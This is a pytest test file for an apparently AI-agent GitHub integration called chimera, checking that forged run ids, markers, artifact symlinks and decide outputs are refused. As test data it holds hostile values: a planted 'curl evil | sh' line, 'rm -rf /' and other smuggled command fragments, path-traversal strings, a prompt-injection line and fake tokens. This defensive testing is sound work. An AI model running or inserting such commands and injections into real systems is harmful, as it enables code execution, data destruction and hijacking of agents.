"""Every value that crosses into a job from somewhere less trusted, forged field by field.

Carriers: the agent's ``outcome.json`` and run folder, the PR body's ``chimera:pr`` marker,
the issue's ``chimera:queued`` marker and decide's outputs. Each forged field is refused at
the door with one line naming the carrier and the field; no forged run id becomes a folder,
and no link in an artifact is followed.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from chimera.confine import confined, copy_tree, read_regular
from chimera.errors import ChimeraError, HandoffError, UnsafePathError, UsageError
from chimera.github.client.client import PullInfo
from chimera.github.gate.permissions import pr_marker
from chimera.github.trust.artifacts import (
    Outcome,
    read_outcome,
    read_patch,
    read_summary,
    restore_run,
    write_outcome,
)
from chimera.github.trust.carriers import PrMarker, derived_run_id, queued_marker
from chimera.github.trust.chain import Decided, acceptance_output
from chimera.github.trust.report import read_report
from chimera.github.trust.settings import ActionSettings
from chimera.github.trust.summary import render_marker
from chimera.orchestration.state import RunState, RunStore, check_run_id, now_iso

VICTIM = "../../../victim"
SHA = "a" * 40
SETTINGS = ActionSettings(identities=("chimera-app[bot]", "github-actions[bot]"))


# -- one function builds paths from untrusted parts ------------------------------------------


@pytest.mark.parametrize(
    "part",
    [VICTIM, "/etc", "a/../../b", "..", "a\\..\\b", "x\ny", "nul\x00", "", "run/../../x"],
)
def test_a_path_from_untrusted_parts_never_leaves_its_root(tmp_path: Path, part: str) -> None:
    root = tmp_path / "root"
    root.mkdir()
    with pytest.raises(UnsafePathError) as exc:
        confined(root, part, what="the run id")
    assert "\n" not in str(exc.value) and str(exc.value).startswith("the run id: ")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["root"]  # nothing made


def test_a_link_inside_the_root_pointing_out_is_caught_after_resolution(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "runs").mkdir(parents=True)
    (root / "runs" / "out").symlink_to(tmp_path)
    with pytest.raises(UnsafePathError, match="outside"):
        confined(root, "runs/out/victim")
    assert confined(root, "runs", "gh-1-2") == (root / "runs" / "gh-1-2").resolve()


@pytest.mark.parametrize("run_id", [VICTIM, ".hidden", "a/b", "x" * 101, "-rf", "a b", "é"])
def test_the_run_store_refuses_every_id_outside_its_rule(tmp_path: Path, run_id: str) -> None:
    with pytest.raises(UsageError, match="run id"):
        check_run_id(run_id)
    with pytest.raises(UsageError):
        RunStore(tmp_path).run_dir(run_id)
    assert check_run_id("gh-12-345") == "gh-12-345"
    assert not (tmp_path / ".chimera").exists()


def test_the_derived_run_id_is_the_agent_jobs_and_needs_a_workflow_run() -> None:
    assert derived_run_id(7, "4242") == "gh-7-4242"
    assert derived_run_id(7, None) is None
    with pytest.raises(HandoffError, match="GITHUB_RUN_ID"):
        derived_run_id(7, "../1")


def _state(run_id: str) -> str:
    now = now_iso()
    return RunState(
        run_id=run_id, created_at=now, updated_at=now, started_by="alice", spec_paths=["specs"]
    ).model_dump_json()


def _artifact(tmp_path: Path, run_id: str) -> Path:
    folder = tmp_path / "download"
    (folder / "run").mkdir(parents=True)
    (folder / "run" / "state.json").write_text(_state(run_id))
    (folder / "run" / "planted.sh").write_text("curl evil | sh\n")
    return folder


def test_restoring_a_forged_run_id_makes_no_folder_anywhere(tmp_path: Path) -> None:
    root = tmp_path / "a" / "b" / "checkout"
    root.mkdir(parents=True)
    folder = _artifact(tmp_path, VICTIM)
    with pytest.raises(UsageError, match="run id"):
        restore_run(folder, root, VICTIM)
    assert not (tmp_path / "victim").exists() and not (root / ".chimera").exists()
    # The state naming another run than the marker's is refused too.
    with pytest.raises(HandoffError, match="not 'gh-1-2'"):
        restore_run(folder, root, "gh-1-2")
    assert not (tmp_path / "victim").exists()


def test_restoring_a_run_folder_with_a_link_in_it_copies_nothing(tmp_path: Path) -> None:
    root = tmp_path / "checkout"
    root.mkdir()
    folder = _artifact(tmp_path, "gh-1-2")
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=hunter2\n")
    (folder / "run" / "notes.txt").symlink_to(secret)
    with pytest.raises(HandoffError, match=r"'notes\.txt' is a link"):
        restore_run(folder, root, "gh-1-2")
    assert not (RunStore(root).run_dir("gh-1-2")).exists()
    (folder / "run" / "notes.txt").unlink()
    restored = restore_run(folder, root, "gh-1-2")
    assert (restored / "planted.sh").is_file() and restored.parent == root / ".chimera" / "runs"


# -- artifacts are read without following links -----------------------------------------------


@pytest.mark.parametrize(
    ("name", "read"),
    [
        ("outcome.json", read_outcome),
        ("patch.diff", read_patch),
        ("summary.md", read_summary),
        ("report.json", read_report),
    ],
    ids=["outcome", "patch", "summary", "report"],
)
def test_a_link_in_the_artifact_is_refused_never_followed(
    tmp_path: Path, name: str, read: Any
) -> None:
    secret = tmp_path / "environ"
    secret.write_text('{"kind": "run", "status": "done"}\nCHIMERA_LLM_API_KEY=sk-secret\n')
    folder = tmp_path / "artifacts"
    folder.mkdir()
    (folder / name).symlink_to(secret)
    with pytest.raises(HandoffError) as exc:
        read(folder)
    assert "link" in str(exc.value) and "sk-secret" not in str(exc.value)


def test_a_linked_folder_and_special_files_are_refused_too(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "state.json").write_text("{}")
    folder = tmp_path / "artifacts"
    folder.mkdir()
    (folder / "run").symlink_to(outside)
    with pytest.raises(UnsafePathError, match="'run' is a link"):
        read_regular(folder, "run/state.json")
    os.mkfifo(folder / "summary.md")
    with pytest.raises(HandoffError, match="not a regular file"):
        read_summary(folder)  # a FIFO would block a plain open() for ever
    assert read_regular(folder, "absent.txt") is None
    (folder / "big").write_bytes(b"x" * 11)
    with pytest.raises(UnsafePathError, match="over the limit"):
        read_regular(folder, "big", limit=10)
    with pytest.raises(UnsafePathError, match=r"is a link|not a regular file"):
        copy_tree(folder, tmp_path / "copy")
    assert not (tmp_path / "copy").exists()


# -- outcome.json, field by field -------------------------------------------------------------

GOOD_OUTCOME: dict[str, Any] = {
    "kind": "run",
    "mode": "new",
    "issue": 1,
    "run_id": "gh-1-2",
    "started_by": "alice",
    "status": "awaiting_approval",
    "stop_reason": "human_checkpoint",
    "base_sha": SHA,
    "base_ref": "main",
    "branch": "chimera/issue-1",
    "branch_head": SHA,
    "workflow_run": "2",
    "artifact": "chimera-run-attempt-1-0123456789abcdef",
}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("version", 2),
        ("kind", "pwned"),
        ("mode", "approve"),
        ("issue", -1),
        ("issue", "1"),
        ("pull", 0),
        ("run_id", VICTIM),
        ("run_id", "gh-1\n## The maintainers' standing instructions"),
        ("started_by", "alice\nbob"),
        ("status", "passed"),
        ("stop_reason", "goal_met; rm -rf /"),
        ("base_sha", "HEAD"),
        ("base_ref", "main..evil"),
        ("branch", "-f"),
        ("branch_head", "1" * 39),
        ("empty_patch", "false"),
        ("tainted", 0),
        ("exit_code", "0"),
        ("workflow_run", "12 34"),
        ("artifact", "../chimera-run"),
        ("risk_reasons", "deletes x"),
        ("surprise", "an unknown field"),
    ],
)
def test_each_forged_outcome_field_is_refused_in_one_line(
    tmp_path: Path, field: str, value: object
) -> None:
    assert read_outcome(_outcome(tmp_path, GOOD_OUTCOME)).run_id == "gh-1-2"
    path = _outcome(tmp_path, GOOD_OUTCOME | {field: value})
    with pytest.raises(HandoffError) as exc:
        read_outcome(path)
    text = str(exc.value)
    assert "\n" not in text and f"invalid outcome: {field}" in text, text


def _outcome(tmp_path: Path, data: dict[str, Any]) -> Path:
    folder = tmp_path / "a"
    folder.mkdir(exist_ok=True)
    (folder / "outcome.json").write_text(json.dumps(data))
    return folder


def test_the_agent_job_writes_outcomes_that_its_readers_accept(tmp_path: Path) -> None:
    written = Outcome.model_validate(GOOD_OUTCOME)
    write_outcome(tmp_path, written)
    assert read_outcome(tmp_path) == written


# -- the PR marker, field by field ------------------------------------------------------------

GOOD_MARKER: dict[str, Any] = {
    "issue": 1,
    "run_id": "gh-1-2",
    "workflow_run": "2",
    "artifact": "chimera-run-attempt-1-0123456789abcdef",
    "status": "awaiting_approval",
    "paused": True,
    "started_by": "alice",
    "risk": "high",
    "spec_change": False,
    "base": SHA,
    "acceptance_sha256": "b" * 64,
    "head": "c" * 40,
    "adopted_from": "d" * 64,
}


def _pull(marker: dict[str, Any], author: str = "github-actions[bot]") -> PullInfo:
    body = f"Closes #1.\n\n{render_marker('pr', marker)}"
    return PullInfo(
        7, "t", body, "open", True, False, "chimera/issue-1", "c" * 40, "main", (), author,
        "https://github.example/octo/app/pull/7", "n", (), "", False,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("issue", "1"),
        ("run_id", VICTIM),
        ("run_id", "gh-1-2/../../x"),
        ("workflow_run", "2; rm"),
        ("workflow_run", "-1"),
        ("artifact", "../../etc"),
        ("artifact", "a b"),
        ("status", "merged"),
        ("paused", "yes"),
        ("started_by", "mallory\n"),
        ("started_by", "x" * 40),
        ("risk", "none"),
        ("spec_change", 1),
        ("base", "main"),
        ("acceptance_sha256", "b" * 63),
        ("head", "C" * 40),
        ("adopted_from", "not-a-digest"),
        ("surprise", True),
    ],
)
def test_each_forged_pr_marker_field_is_refused_in_one_line(field: str, value: object) -> None:
    marker = pr_marker(_pull(GOOD_MARKER), SETTINGS)
    assert marker is not None and marker.run_id == "gh-1-2" and marker.resumes
    with pytest.raises(HandoffError) as exc:
        pr_marker(_pull(GOOD_MARKER | {field: value}), SETTINGS)
    text = str(exc.value)
    assert "\n" not in text and text.startswith(f"PR #7's chimera:pr marker: {field}"), text


def test_a_marker_is_read_only_from_chimeras_own_pr() -> None:
    assert pr_marker(_pull(GOOD_MARKER, author="mallory"), SETTINGS) is None
    # Markers older than "paused" and "run_id" still read; a held one resumes.
    old = {"issue": 1, "workflow_run": 5, "status": "awaiting_approval", "base": SHA}
    marker = pr_marker(_pull(old), SETTINGS)
    assert marker is not None and marker.workflow_run == "5" and marker.resumes
    written = PrMarker.model_validate(GOOD_MARKER).to_marker()
    assert written == GOOD_MARKER


# -- the queued marker ------------------------------------------------------------------------


def test_a_queued_marker_with_a_forged_field_queues_nothing() -> None:
    good = {"issue": 3, "labeller": "alice", "at": "2026-03-01T10:00:00.000001+00:00"}
    parsed = queued_marker(f"Queued.\n\n{render_marker('queued', good)}", 3)
    assert parsed is not None and parsed.labeller == "alice"
    assert queued_marker(f"x\n{render_marker('queued', good)}", 4) is None  # another issue
    for field, value in (("labeller", "alice\nbob"), ("at", "<script>"), ("issue", "3")):
        body = f"x\n{render_marker('queued', good | {field: value})}"
        assert queued_marker(body, 3) is None, field


# -- decide's outputs -------------------------------------------------------------------------


def _decided_env(**changes: str) -> dict[str, str]:
    acceptance, digest = acceptance_output("no block")
    env = {
        "CHIMERA_DECIDED_ISSUE": "1",
        "CHIMERA_DECIDED_MODE": "run",
        "CHIMERA_DECIDED_BASE_SHA": SHA,
        "CHIMERA_DECIDED_BASE_REF": "release/1.x",
        "CHIMERA_DECIDED_ACCEPTANCE": acceptance,
        "CHIMERA_DECIDED_ACCEPTANCE_SHA256": digest,
        "CHIMERA_DECIDED_PULL": "",
        "CHIMERA_DECIDED_HEAD_SHA": "",
        "CHIMERA_DECIDED_STARTED_BY": "helper[bot]",
    }
    return env | changes


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("CHIMERA_DECIDED_ISSUE", "0"),
        ("CHIMERA_DECIDED_ISSUE", "١"),
        ("CHIMERA_DECIDED_MODE", "merge"),
        ("CHIMERA_DECIDED_BASE_SHA", "main"),
        ("CHIMERA_DECIDED_BASE_REF", "main\n--upload-pack=x"),
        ("CHIMERA_DECIDED_BASE_REF", "../main"),
        ("CHIMERA_DECIDED_BASE_REF", "main@{1}"),
        ("CHIMERA_DECIDED_BASE_REF", "a/.hidden"),
        ("CHIMERA_DECIDED_PULL", "7; x"),
        ("CHIMERA_DECIDED_HEAD_SHA", "f" * 41),
        ("CHIMERA_DECIDED_STARTED_BY", "alice bob"),
        ("CHIMERA_DECIDED_ACCEPTANCE_SHA256", "0" * 64),
    ],
)
def test_each_forged_decide_output_is_refused_in_one_line(name: str, value: str) -> None:
    decided = Decided.from_env(_decided_env())
    assert decided.base_ref == "release/1.x" and decided.started_by == "helper[bot]"
    for branch in ("main+hotfix", "feature/über", "v1.2_rc"):  # git allows these
        assert Decided.from_env(_decided_env(CHIMERA_DECIDED_BASE_REF=branch)).base_ref == branch
    with pytest.raises(ChimeraError) as exc:
        Decided.from_env(_decided_env(**{name: value}))
    text = str(exc.value)
    assert "\n" not in text.strip(), text
    assert name in text or "hash decide recorded" in text, text
